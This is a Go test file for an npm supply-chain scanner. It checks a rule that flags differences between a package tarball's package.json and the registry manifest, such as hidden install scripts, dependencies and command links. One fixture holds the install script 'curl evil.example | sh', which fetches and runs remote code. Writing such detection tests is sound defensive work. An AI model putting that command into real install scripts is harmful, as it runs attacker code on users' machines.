package manifest

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/rules/rulestest"
)

// registryDoc wraps version manifests into a full packument in the
// registry's format (with the _-fields npm adds on publish).
func registryDoc(name string, versions map[string]string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, `{"_id":%q,"_rev":"3-abc","name":%q,"dist-tags":{"latest":"1.0.0"},"versions":{`, name, name)
	keys := make([]string, 0, len(versions))
	for k := range versions {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	for i, v := range keys {
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, `%q:{"name":%q,"version":%q,%s"_id":"%s@%s","_npmUser":{"name":"alice","email":"alice@example.com"},`+
			`"gitHead":"0123abc","_nodeVersion":"20.11.1","_npmVersion":"10.2.4","dist":{"tarball":"https://registry.npm.local/%s/-/%s-%s.tgz",`+
			`"integrity":"sha512-AAAA","shasum":"00"},"_hasShrinkwrap":false}`, v, name, v, versions[v], name, v, name, name, v)
	}
	fmt.Fprintf(&b, `},"time":{"created":"2024-01-01T00:00:00.000Z","1.0.0":"2024-01-01T00:00:00.000Z"},"maintainers":[{"name":"alice","email":"alice@example.com"}]}`)
	return []byte(b.String())
}

type rec struct{ out []analyze.Instance }

func (r *rec) Report(in analyze.Instance) { r.out = append(r.out, in) }

func check(t *testing.T, files map[string]string, packument []byte, version string) []string {
	t.Helper()
	tg := analyze.NewTarget(rulestest.FS(files), analyze.DefaultLimits())
	tg.Packument = packument
	tg.Package = finding.Package{Name: "pkg", Version: version}
	r := &rec{}
	if err := (Confusion{}).Check(context.Background(), tg, r); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, in := range r.out {
		got = append(got, fmt.Sprintf("%s %s", in.Severity, in.Message))
	}
	slices.Sort(got)
	return got
}

func TestConfusion(t *testing.T) {
	const base = `"name":"pkg","version":"1.0.0","main":"index.js"`
	tests := []struct {
		name     string
		tarball  string            // package.json members
		registry string            // version manifest members (before _id)
		files    map[string]string // extra files
		version  string
		want     []string
	}{
		{name: "identical", tarball: base + `,"scripts":{"test":"jest"},"dependencies":{"a":"^1.0.0"}`,
			registry: `"main":"index.js","scripts":{"test":"jest"},"dependencies":{"a":"^1.0.0"},`},
		{name: "hidden_install_script", tarball: base + `,"scripts":{"test":"jest","postinstall":"node x.js"}`,
			registry: `"scripts":{"test":"jest"},`,
			want:     []string{"critical the tarball runs a postinstall script that the registry manifest hides"}},
		{name: "hidden_script_registry_admits_one", tarball: base + `,"scripts":{"preinstall":"node x.js"}`,
			registry: `"scripts":{},"hasInstallScript":true,`,
			want:     []string{"high the tarball runs a preinstall script that the registry manifest hides"}},
		{name: "different_script", tarball: base + `,"scripts":{"install":"curl evil.example | sh"}`,
			registry: `"scripts":{"install":"node build.js"},"hasInstallScript":true,`,
			want:     []string{"high the tarball's install script is not the one the registry manifest shows"}},
		{name: "registry_only_script", tarball: base, registry: `"scripts":{"postinstall":"node ok.js"},`,
			want: []string{"low the registry manifest shows a postinstall script that the tarball does not have"}},
		{name: "gyp_normalisation_is_benign", tarball: base, files: map[string]string{"binding.gyp": "{}"},
			registry: `"scripts":{"install":"node-gyp rebuild"},"gypfile":true,`},
		{name: "gyp_hidden", tarball: base, files: map[string]string{"binding.gyp": "{}"}, registry: `"scripts":{},`,
			want: []string{"medium the tarball's binding.gyp makes npm run node-gyp rebuild at install, which the registry manifest does not show"}},
		{name: "underscore_fields_readme_githead_ignored", tarball: base + `,"_where":"/x","gitHead":"fff","readme":"hi","description":"other"`,
			registry: `"readme":"ERROR: No README data found!","description":"d",`},
		{name: "name_and_version", tarball: `"name":"other","version":"9.9.9"`, registry: ``,
			want: []string{
				`high the tarball's package.json names "other" but the registry manifest names "pkg"`,
				`high the tarball's package.json says version "9.9.9" but the registry manifest says "1.0.0"`,
			}},
		{name: "v_prefix_version_is_same", tarball: `"name":"pkg","version":"v1.0.0"`, registry: ``},
		{name: "hidden_dependency", tarball: base + `,"dependencies":{"a":"^1.0.0"}`, registry: `"dependencies":{"a":"^1.0.0","evil":"^1.0.0"},`,
			want: []string{"high npm installs 1 dependency from the registry manifest that the tarball's package.json does not list: evil@^1.0.0"}},
		{name: "unlisted_and_changed_dependency", tarball: base + `,"dependencies":{"a":"^2.0.0","b":"1"}`, registry: `"dependencies":{"a":"^1.0.0"},`,
			want: []string{
				"medium 1 dependency range differ between the tarball and the registry manifest",
				"medium the tarball's package.json lists 1 dependency the registry manifest does not: b@1",
			}},
		{name: "optional_dedupe_and_github_shorthand", tarball: base + `,"dependencies":{"fsevents":"^2.0.0","x":"github:u/x"},"optionalDependencies":{"fsevents":"^2.0.0"}`,
			registry: `"dependencies":{"x":"u/x"},"optionalDependencies":{"fsevents":"^2.0.0"},`},
		{name: "bin_normalisation", tarball: base + `,"bin":"./cli.js"`, registry: `"bin":{"pkg":"cli.js"},`},
		{name: "directories_bin_expanded", tarball: base + `,"directories":{"bin":"./bin"}`, registry: `"bin":{"tool":"bin/tool.js"},`},
		{name: "hidden_bin", tarball: base + `,"bin":{"pkg":"cli.js","git":"evil.js"}`, registry: `"bin":{"pkg":"cli.js"},`,
			want: []string{"medium the tarball links commands the registry manifest does not show: git -> evil.js"}},
		{name: "abbreviated_admits_script", tarball: base + `,"scripts":{"postinstall":"node x.js"}`, registry: `"hasInstallScript":true,`},
		{name: "no_scripts_key", tarball: base + `,"scripts":{"postinstall":"node x.js"}`, registry: ``,
			want: []string{"high the tarball runs a postinstall script; the registry manifest lists no scripts and no install script"}},
		{name: "version_not_in_document", tarball: base, registry: ``, version: "2.0.0",
			want: []string{`info manifest confusion not checked: version "2.0.0" is not in the registry document`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{"package.json": "{" + tc.tarball + "}", "index.js": "module.exports = 1\n"}
			for k, v := range tc.files {
				files[k] = v
			}
			v := tc.version
			if v == "" {
				v = "1.0.0"
			}
			got := check(t, files, registryDoc("pkg", map[string]string{"1.0.0": tc.registry}), v)
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// TestConfusionFixture runs the rule over a packed fixture and the
// registry's /name/version body instead of a whole packument.
func TestConfusionFixture(t *testing.T) {
	reg, err := os.ReadFile("testdata/hidden-postinstall/registry-version.json")
	if err != nil {
		t.Fatal(err)
	}
	pj, err := os.ReadFile("testdata/hidden-postinstall/package/package.json")
	if err != nil {
		t.Fatal(err)
	}
	got := check(t, map[string]string{"package.json": string(pj), "install.js": "require('child_process')\n"}, reg, "")
	want := []string{
		"critical the tarball runs a postinstall script that the registry manifest hides",
		"high npm installs 1 dependency from the registry manifest that the tarball's package.json does not list: helper-dep@^1.0.0",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestNoPackument(t *testing.T) {
	got := check(t, map[string]string{"package.json": `{"name":"pkg","version":"1.0.0"}`}, nil, "1.0.0")
	if diff := cmp.Diff([]string{"info manifest confusion not checked: the registry's manifest of this version is not available"}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	got = check(t, map[string]string{"package.json": `{"name":"pkg","version":"1.0.0"}`}, []byte("[1]"), "1.0.0")
	if len(got) != 1 || !strings.HasPrefix(got[0], "info manifest confusion not checked") {
		t.Errorf("got %v", got)
	}
	// no package.json: nothing to compare, no finding
	if got := check(t, map[string]string{"index.js": "1"}, registryDoc("pkg", map[string]string{"1.0.0": ""}), "1.0.0"); len(got) != 0 {
		t.Errorf("got %v", got)
	}
}

// TestVerdictWithEngine: a hidden install script alone makes the package
// malicious through the engine (critical, package role).
func TestVerdictWithEngine(t *testing.T) {
	eng, err := analyze.New(Rules())
	if err != nil {
		t.Fatal(err)
	}
	tg := analyze.NewTarget(rulestest.FS(map[string]string{
		"package.json": `{"name":"pkg","version":"1.0.0","scripts":{"postinstall":"node x.js"}}`, "x.js": "1"}), analyze.DefaultLimits())
	tg.Packument = registryDoc("pkg", map[string]string{"1.0.0": ""})
	res, err := eng.Run(context.Background(), tg)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Findings) != 1 || res.Findings[0].Signal != analyze.SigInstall || res.Incomplete {
		t.Errorf("result %+v", res)
	}
}

var update = flag.Bool("update", false, "rewrite docs/rules/manifest-*.md from rule metadata")

// doc renders a per-package rule's page exactly as internal/rules does for
// Builtin, so the page stays valid once the rule is listed there.
func doc(m analyze.Meta) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "# `%s`: %s\n\n", m.ID, m.Title)
	fmt.Fprintf(&b, "Default severity: **%s** · signal: `%s` · rule version %d\n\n", m.DefaultSeverity, m.Signal, m.Version)
	fmt.Fprintf(&b, "## What it detects and why it matters\n\n%s\n\n", m.Help)
	fmt.Fprintf(&b, "## Example\n\n```js\n%s\n```\n\n", m.Example)
	fmt.Fprintf(&b, "## What to do\n\n%s\n\n", m.Remediation)
	fmt.Fprintf(&b, "## How the verdict uses it\n\nFindings carry the role of their file (install-time, entry point, other, test, docs, types). "+
		"Critical findings in live code make the package `malicious`; lower findings combine into chains (for example install-time code "+
		"that reads secrets and talks to the network). Findings in tests, docs, examples and `.d.ts` files barely count.\n\n")
	fmt.Fprintf(&b, "## How to suppress\n\nIf you have reviewed the package and accept the behaviour, record it in the policy file as an accepted risk "+
		"with a reason (and, ideally, an expiry):\n\n```sh\ndepfence accept PKG@VERSION %s --reason \"why this is acceptable\"\n```\n\n"+
		"Suppression is per package version: a new release is analysed afresh.\n", m.ID)
	return b.Bytes()
}

func TestDocs(t *testing.T) {
	for _, r := range Rules() {
		m := r.Meta()
		if m.Version < 1 || m.Title == "" || len(m.Help) < 80 || m.Remediation == "" || m.Example == "" || m.Signal == "" || m.Needs&analyze.NeedPackument == 0 {
			t.Errorf("%s: incomplete metadata", m.ID)
		}
		name := filepath.Join("..", "..", "..", "docs", "rules", strings.ReplaceAll(string(m.ID), "/", "-")+".md")
		want := doc(m)
		if *update {
			if err := os.WriteFile(name, want, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		got, err := os.ReadFile(name)
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s: doc page missing or stale (go test ./internal/rules/manifest -run TestDocs -update): %v", m.ID, err)
		}
	}
}

// TestVersionDocument: a parsed version re-encoded for Target.Packument
// compares like the registry's own bytes.
func TestVersionDocument(t *testing.T) {
	reg, err := os.ReadFile("testdata/hidden-postinstall/registry-version.json")
	if err != nil {
		t.Fatal(err)
	}
	pv, why := RegistryManifest(reg, "1.0.0")
	if pv == nil {
		t.Fatal(why)
	}
	pj, err := os.ReadFile("testdata/hidden-postinstall/package/package.json")
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{"package.json": string(pj)}
	if diff := cmp.Diff(check(t, files, reg, "1.0.0"), check(t, files, VersionDocument(pv), "1.0.0")); diff != "" {
		t.Errorf("(-bytes +re-encoded):\n%s", diff)
	}
}
